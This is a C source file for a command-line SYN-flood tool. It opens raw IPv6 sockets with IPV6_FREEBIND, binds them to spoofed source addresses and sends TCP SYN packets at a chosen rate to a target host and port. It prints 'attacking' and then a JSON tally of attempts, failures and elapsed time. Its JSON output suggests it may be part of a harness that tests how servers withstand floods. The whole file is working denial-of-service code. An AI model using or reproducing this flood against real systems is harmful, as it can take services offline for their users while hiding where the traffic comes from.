/*
 * syn-flood ADDRESS PORT RATE SOURCES
 *
 * Begins connections from SOURCES, which are nobody's, so that none of them is ever made: a packet each, RATE a second, until
 * standard input is closed.
 */
#include "sources.h"

#define IPV6_CHECKSUM_OFFSET 16
#define SOCKETS_MAX 512

int main(int argc, char **argv) {
  if (argc != 5 || !parse_places(argv[1], argv[2], argv[4])) return fail("usage: see the source");
  double rate = atof(argv[3]);
  if (source_count < 1 || source_count > SOCKETS_MAX || rate <= 0) return fail("no such flood");
  int sockets[SOCKETS_MAX], on = 1, offset = IPV6_CHECKSUM_OFFSET;
  for (long i = 0; i < source_count; i++) {
    struct sockaddr_in6 from = source(i);
    sockets[i] = socket(AF_INET6, SOCK_RAW, IPPROTO_TCP);
    setsockopt(sockets[i], IPPROTO_IPV6, IPV6_CHECKSUM, &offset, sizeof offset);
    setsockopt(sockets[i], IPPROTO_IPV6, IPV6_FREEBIND, &on, sizeof on);
    if (bind(sockets[i], (struct sockaddr *)&from, sizeof from)) return fail("bind");
  }
  struct sockaddr_in6 to = server;
  to.sin6_port = 0; /* raw(7) wants none */
  long sent = 0, failed = 0, due = 0;
  int announced = 0;
  double start = now();
  while (!is_input_closed(1)) {
    for (due = (now() - start) * rate; sent + failed < due;) {
      struct tcphdr syn = {.source = htons(1024 + rand() % 60000),
                           .dest = server.sin6_port,
                           .seq = rand(),
                           .doff = sizeof(struct tcphdr) / 4,
                           .syn = 1,
                           .window = htons(65535)};
      if (sendto(sockets[rand() % source_count], &syn, sizeof syn, 0, (struct sockaddr *)&to, sizeof to) < 0) failed++;
      else sent++;
    }
    if (!announced && sent > rate / 2) {
      announced = 1;
      printf("attacking\n");
      fflush(stdout);
    }
  }
  printf("{\"attempts\":%ld,\"established\":0,\"closed\":0,\"failed\":%ld,\"peak\":0,\"handshakes\":0,\"secrets\":0,\"seconds\":%.1f}\n",
         sent, failed, now() - start);
  return 0;
}
